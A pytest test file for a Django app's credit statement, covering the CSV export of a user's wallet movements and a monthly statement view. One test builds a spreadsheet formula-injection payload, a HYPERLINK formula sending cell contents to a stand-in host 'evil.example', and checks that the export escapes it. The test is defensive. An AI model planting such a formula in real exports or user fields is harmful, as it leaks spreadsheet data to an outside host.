"""The sheet and the month to print: all movements, words that are no formulas, and no one else's.

Knows the factories and the pages' addresses.
"""

import csv
import io

import pytest
import time_machine

from accounts import gifts
from accounts.models import Transfer
from accounts.views.statements import FORMULA_STARTS
from avatars.models import State
from tests import factories

pytestmark = pytest.mark.django_db


@pytest.fixture
def adas(client, ada, ben):
    """Ada's browser; Ben has a history too."""
    factories.create_request_in(State.READY, ben)
    client.force_login(ada)
    return client


def sheet(client) -> list[dict[str, str]]:
    response = client.get("/credits/statement.csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


# ── The sheet ───────────────────────────────────────────────────────────────────────────────────


def test_the_sheet_has_every_movement_and_adds_up(adas, ada):
    factories.create_request_in(State.READY, ada)
    factories.create_request_in(State.FAILED, ada)
    factories.create_request(ada)
    factories.create_purchase(ada)
    rows = sheet(adas)
    ada.wallet.refresh_from_db()
    assert len(rows) == ada.wallet.transfers.count() < Transfer.objects.count()
    assert [int(row["Number"]) for row in rows] == list(range(1, len(rows) + 1))
    balance = 0
    for row in rows:
        balance += int(row["Credits"])
        assert int(row["Balance"]) == balance
    assert balance == ada.wallet.available - ada.wallet.owed
    assert sum(int(row["Held"]) for row in rows) == ada.wallet.reserved == 1
    last = rows[-1]
    assert (last["What"], last["Credits"], last["Paid"]) == ("Purchase", "60", "9.00")


def test_it_is_a_file_of_its_own_kept_by_nobody(adas):
    response = adas.get("/credits/statement.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="likeness-credits.csv"'
    assert response["Cache-Control"] == "private, no-store"
    assert b"".join(response.streaming_content).startswith(b"\xef\xbb\xbfNumber,")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_never_begins_a_formula(adas, ada, mo, start):
    reason = f'{start}HYPERLINK("https://evil.example?x="&A1,"sorry")'
    ada.wallet.grant("adjust_up", 1, "adjust:formula", actor=mo, note=reason)
    ada.wallet.grant("adjust_up", 1, "adjust:spaced", actor=mo, note=f"  {reason}")
    notes = [row["Note"] for row in sheet(adas)[-2:]]
    assert notes == [f"'{reason}", f"'  {reason}"]


def test_other_words_stay_as_they_are(adas, ada, mo):
    reason = 'Sorry, "yesterday" = bad; a,b\nsecond line - ñ @ 1+1'
    gifts.give(ada, 1, actor=mo, reason=reason, number="1")
    assert sheet(adas)[-1]["Note"] == reason


def test_a_sheet_of_nothing_has_its_head(client, ben):
    client.force_login(ben)
    assert sheet(client) == []


def test_a_long_sheet_asks_the_database_no_more_often(adas, ada, django_assert_num_queries):
    for _number in range(30):
        factories.give(ada, 1)
    with django_assert_num_queries(3):  # session, person, movements
        assert len(sheet(adas)) == 31


# ── The month ───────────────────────────────────────────────────────────────────────────────────


def test_a_month_says_what_there_was_what_came_and_what_was_left(client, ben):
    client.force_login(ben)
    with time_machine.travel("2026-10-31 12:00:00Z", tick=False):
        factories.give(ben, 5)
    with time_machine.travel("2026-11-02 12:00:00Z", tick=False):
        factories.create_purchase(ben)
    with time_machine.travel("2026-12-01 12:00:00Z", tick=False):
        client.force_login(ben)
        factories.give(ben, 1)
        response = client.get("/credits/statement/?month=2026-11")
        empty = client.get("/credits/statement/?month=2026-09")
    told = [(str(row["word"]), row["amount_text"], row["paid"]) for row in response.context["rows"]]
    assert told == [("Purchase", "+60", "$9")]
    assert (response.context["opening"], response.context["closing"]) == (5, 65)
    assert "Credits in November 2026" in response.text
    assert "ben@example.org" in response.text
    assert response.context["earlier"] == "/credits/statement/?month=2026-10"
    assert response.context["later"] == "/credits/statement/?month=2026-12"
    assert "Nothing came or went in this month." in empty.text


def test_a_month_is_the_persons_own(client, ben):
    ben.time_zone = "Asia/Tokyo"
    ben.save(update_fields=["time_zone"])
    with time_machine.travel("2026-10-31 20:00:00Z", tick=False):  # already November there
        factories.give(ben, 5)
        client.force_login(ben)
        response = client.get("/credits/statement/")
    assert "Credits in November 2026" in response.text
    assert len(response.context["rows"]) == 1
    assert response.context["later"] == ""


@pytest.mark.parametrize(
    "month", ["", "x", "2026-13", "2026-00", "2026-1", "1999-01", "2099-01", "２０２６-01"]
)
def test_a_month_that_cannot_be_is_not_found(adas, month):
    assert adas.get("/credits/statement/", {"month": month}).status_code == 404


def test_strangers_sign_in_first(client):
    for address in ("/credits/statement/", "/credits/statement.csv"):
        assert client.get(address)["Location"] == f"/accounts/login/?next={address}"
